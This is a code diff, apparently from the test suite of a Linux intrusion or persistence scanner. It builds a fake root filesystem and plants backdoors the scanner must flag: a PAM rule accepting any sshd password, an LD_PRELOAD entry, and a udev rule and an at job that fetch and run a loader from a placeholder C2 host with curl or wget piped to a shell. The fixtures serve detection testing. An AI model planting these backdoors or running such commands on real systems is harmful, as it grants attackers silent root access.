@@ -380,6 +380,30 @@ fn clean(d: Distro, root: &Path, work: &Path) {
         ),
     );
     std::fs::create_dir_all(root.join("etc/ssh/sshd_config.d")).unwrap();
+    // The distribution's PAM stacks for sshd.
+    if d.rpm() {
+        write(
+            root,
+            "etc/pam.d/sshd",
+            "#%PAM-1.0\nauth       substack     password-auth\nauth       include      postlogin\naccount    required     pam_sepermit.so\naccount    required     pam_nologin.so\naccount    include      password-auth\nsession    include      password-auth\n",
+        );
+        write(
+            root,
+            "etc/pam.d/password-auth",
+            "auth        required      pam_env.so\nauth        required      pam_faildelay.so delay=2000000\nauth        sufficient    pam_unix.so nullok\nauth        required      pam_deny.so\naccount     required      pam_unix.so\npassword    sufficient    pam_unix.so sha512 shadow nullok use_authtok\nsession     required      pam_unix.so\n",
+        );
+    } else {
+        write(
+            root,
+            "etc/pam.d/sshd",
+            "@include common-auth\naccount    required     pam_nologin.so\n@include common-account\nsession    required     pam_loginuid.so\n",
+        );
+        write(
+            root,
+            "etc/pam.d/common-auth",
+            "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n",
+        );
+    }
     write(
         root,
         "etc/hosts",
@@ -749,6 +773,36 @@ fn plant(d: Distro, root: &Path) {
         ed25519_key(93, "root@localhost"),
     );
 
+    // PAM accepting any password for sshd, a preload through /etc/environment, a udev rule
+    // and an at job that fetch and run the loader.
+    write(
+        root,
+        "etc/pam.d/sshd",
+        "auth sufficient pam_permit.so\nauth       substack     password-auth\naccount    required     pam_nologin.so\n",
+    );
+    write(
+        root,
+        "etc/environment",
+        format!("LD_PRELOAD={PRELOAD_LIB}\n"),
+    );
+    write(
+        root,
+        "etc/udev/rules.d/99-netplug.rules",
+        format!(
+            "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'curl -s http://{C2}/u|sh'\"\n"
+        ),
+    );
+    let atjob = if d.rpm() {
+        "var/spool/at/a0000101a2b3c4"
+    } else {
+        "var/spool/cron/atjobs/a0000101a2b3c4"
+    };
+    write(
+        root,
+        atjob,
+        format!("#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {{\n\t exit 1\n}}\nwget -q -O- http://{C2}/at.sh | bash\n"),
+    );
+
     // Logs: 500 failures from one source, then its successful login; account creation; the
     // cron job running; the rootkit loading.
     let (auth, sys, kern, cron) = log_names(d);
@@ -1073,6 +1127,30 @@ fn expectations(d: Distro, wipe_auth: bool) -> Vec<Expect> {
             "persistence.authorized-keys-unusual-file",
             "/root/.ssh/authorized_keys2",
             Medium,
+        ),
+        expect(
+            "auth sufficient pam_permit.so for sshd",
+            "persistence.pam-permit",
+            "/etc/pam.d/sshd",
+            Critical,
+        ),
+        expect(
+            "LD_PRELOAD in /etc/environment",
+            "persistence.environment-preload",
+            "/etc/environment",
+            High,
+        ),
+        expect(
+            "udev rule running curl|sh",
+            "persistence.udev-run",
+            "99-netplug.rules",
+            High,
+        ),
+        expect(
+            "at job running wget|bash",
+            "persistence.cron-download-exec",
+            "a0000101a2b3c4",
+            High,
         ),
         expect(
             "login after 500 failures",
